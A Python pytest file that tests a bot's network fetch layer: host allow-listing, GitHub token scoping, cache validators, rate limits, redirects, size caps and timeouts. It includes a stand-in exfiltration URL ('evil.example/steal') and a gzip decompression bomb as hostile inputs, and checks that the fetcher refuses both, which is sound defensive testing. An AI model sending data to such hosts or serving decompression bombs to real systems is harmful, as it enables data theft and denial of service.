"""The fetch layer, the watchers' only door to the network: what it sends and what it refuses."""

from __future__ import annotations

import datetime as dt
from collections.abc import AsyncIterator, Callable
from typing import Any

import httpx
import pytest

from bot.watchers.fetch import Fetcher, FetchPolicy, Validators
from knowledge.errors import SourceRateLimited, WatcherError
from tests.watchers import payloads as p
from tests.watchers.web import Web, slow_drip

NOW = dt.datetime(2026, 11, 30, 9, 0, tzinfo=dt.UTC)

MakeFetcher = Callable[..., Fetcher]


@pytest.fixture
async def fetcher(web: Web) -> AsyncIterator[MakeFetcher]:
    """``fetcher(url, ..., token=None, **policy)``: a Fetcher allowed to fetch just these URLs."""
    clients: list[httpx.AsyncClient] = []

    def make(*urls: str, token: str | None = None, **policy: Any) -> Fetcher:
        clients.append(web.client())
        return Fetcher(
            clients[-1],
            allowed=urls,
            clock=lambda: NOW,
            github_token=token,
            policy=FetchPolicy(**policy),
        )

    yield make
    for client in clients:
        await client.aclose()


async def test_a_url_that_was_not_configured_is_refused_before_any_request(
    web: Web, fetcher: MakeFetcher
) -> None:
    f = fetcher(p.COMMENTS_8506)

    with pytest.raises(WatcherError, match="not a configured source"):
        await f.get("https://evil.example/steal?what=a-chat-message")

    assert web.requests == []


async def test_the_github_token_travels_to_github_only(web: Web, fetcher: MakeFetcher) -> None:
    web.serve(p.COMMENTS_8506, [])
    web.serve(p.HF_MODELS, [])
    f = fetcher(p.COMMENTS_8506, p.HF_MODELS, token="ghp_secret")

    await f.get(p.COMMENTS_8506)
    await f.get(p.HF_MODELS)

    github, hugging_face = web.requests
    assert github.headers["authorization"] == "Bearer ghp_secret"
    assert github.headers["x-github-api-version"] == "2022-11-28"
    assert "authorization" not in hugging_face.headers
    assert hugging_face.headers["user-agent"].startswith("marin-watch/")


async def test_without_a_token_github_is_asked_anonymously(web: Web, fetcher: MakeFetcher) -> None:
    web.serve(p.COMMENTS_8506, [])
    await fetcher(p.COMMENTS_8506).get(p.COMMENTS_8506)
    assert "authorization" not in web.requests[0].headers


async def test_validators_are_sent_back_only_to_the_url_they_came_from(
    web: Web, fetcher: MakeFetcher
) -> None:
    page = web.serve(p.WANDB_REPORT, p.wandb_page("hello"))
    page.headers["Last-Modified"] = "Sat, 28 Nov 2026 10:00:00 GMT"
    f = fetcher(p.WANDB_REPORT)

    first = await f.get(p.WANDB_REPORT)
    second = await f.get(p.WANDB_REPORT, validators=first.validators)
    elsewhere = Validators("https://wandb.ai/other", etag=first.etag)
    third = await f.get(p.WANDB_REPORT, validators=elsewhere)

    assert second.not_modified and second.body == b""
    assert web.requests[1].headers["if-none-match"] == page.etag
    assert web.requests[1].headers["if-modified-since"] == "Sat, 28 Nov 2026 10:00:00 GMT"
    assert "if-none-match" not in web.requests[2].headers and third.status == 200


async def test_configured_query_parameters_survive_the_ones_a_watcher_adds(
    web: Web, fetcher: MakeFetcher
) -> None:
    web.serve(p.COMMITS_REPORTS, [])
    await fetcher(p.COMMITS_REPORTS).get(p.COMMITS_REPORTS, params={"per_page": "30"})
    assert dict(web.requests[0].url.params) == {"path": "docs/reports", "per_page": "30"}


async def test_a_declared_oversized_body_is_refused_unread(web: Web, fetcher: MakeFetcher) -> None:
    web.on(p.HF_MODELS, lambda r: httpx.Response(200, content=b"[" + b" " * 5000 + b"]"))
    with pytest.raises(WatcherError, match="over the 4,096-byte cap"):
        await fetcher(p.HF_MODELS, max_bytes=4096).get(p.HF_MODELS)


async def test_a_redirect_is_reported_not_followed(web: Web, fetcher: MakeFetcher) -> None:
    web.on(
        p.BLOG, lambda r: httpx.Response(301, headers={"Location": "https://elsewhere.example/"})
    )
    with pytest.raises(WatcherError, match="redirected to https://elsewhere.example/"):
        await fetcher(p.BLOG).get(p.BLOG)
    assert len(web.requests) == 1


async def test_retry_after_may_be_an_http_date(web: Web, fetcher: MakeFetcher) -> None:
    web.on(
        p.HF_MODELS,
        lambda r: httpx.Response(429, headers={"Retry-After": "Mon, 30 Nov 2026 10:30:00 GMT"}),
    )
    with pytest.raises(SourceRateLimited) as caught:
        await fetcher(p.HF_MODELS).get(p.HF_MODELS)
    assert caught.value.until == dt.datetime(2026, 11, 30, 10, 30, tzinfo=dt.UTC)


async def test_a_spent_quota_holds_every_source_on_that_host_until_the_reset(
    web: Web, fetcher: MakeFetcher
) -> None:
    reset = NOW + dt.timedelta(minutes=30)
    spent = {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": str(int(reset.timestamp()))}
    web.on(p.COMMENTS_8506, lambda r: httpx.Response(200, json=[], headers=spent))
    web.serve(p.HF_MODELS, [])
    f = fetcher(p.COMMENTS_8506, p.COMMITS_REPORTS, p.HF_MODELS)

    await f.get(p.COMMENTS_8506)  # answered, but that was the last request of the hour
    with pytest.raises(SourceRateLimited) as caught:
        await f.get(p.COMMITS_REPORTS)
    await f.get(p.HF_MODELS)  # another host is not held

    assert caught.value.until == reset
    assert [r.url.host for r in web.requests] == ["api.github.com", "huggingface.co"]


async def test_a_slow_drip_cannot_hold_a_watcher_past_its_deadline(
    web: Web, fetcher: MakeFetcher
) -> None:
    web.on(p.HF_MODELS, slow_drip(5.0))
    with pytest.raises(WatcherError, match="no complete answer within 0.05s"):
        await fetcher(p.HF_MODELS, deadline=0.05).get(p.HF_MODELS)


async def test_a_network_error_is_translated_once(web: Web, fetcher: MakeFetcher) -> None:
    def refuse(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("connection refused", request=request)

    web.on(p.HF_MODELS, refuse)
    with pytest.raises(WatcherError, match="network error \\(ConnectError"):
        await fetcher(p.HF_MODELS).get(p.HF_MODELS)


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, compresslevel=9)


def _serve_encoded(web: Web, body: bytes, encoding: str) -> None:
    """Serve ``body`` streamed, as a real server sends it, under ``encoding``: a body given as
    content= would be inflated by the fake itself before the fetcher saw it."""
    web.on(
        p.HF_MODELS,
        lambda r: httpx.Response(
            200,
            stream=httpx.ByteStream(body),
            headers={"Content-Encoding": encoding, "Content-Type": "application/json"},
        ),
    )


async def test_a_gzip_bomb_stops_at_the_cap_without_inflating_it(
    web: Web, fetcher: MakeFetcher
) -> None:
    _serve_encoded(web, _gzip(b"\0" * (64 * 1024 * 1024)), "gzip")  # 64 MB in ~64 KB
    with pytest.raises(WatcherError, match="passed the 2,097,152-byte cap"):
        await fetcher(p.HF_MODELS).get(p.HF_MODELS)


async def test_two_layers_of_gzip_are_refused(web: Web, fetcher: MakeFetcher) -> None:
    _serve_encoded(web, _gzip(_gzip(b"[]")), "gzip, gzip")
    with pytest.raises(WatcherError, match="2 content-encoding layers"):
        await fetcher(p.HF_MODELS).get(p.HF_MODELS)


async def test_an_ordinary_gzip_body_is_read(web: Web, fetcher: MakeFetcher) -> None:
    _serve_encoded(web, _gzip(b'[{"id": "a"}]'), "gzip")
    fetched = await fetcher(p.HF_MODELS).get(p.HF_MODELS)
    assert fetched.body == b'[{"id": "a"}]'
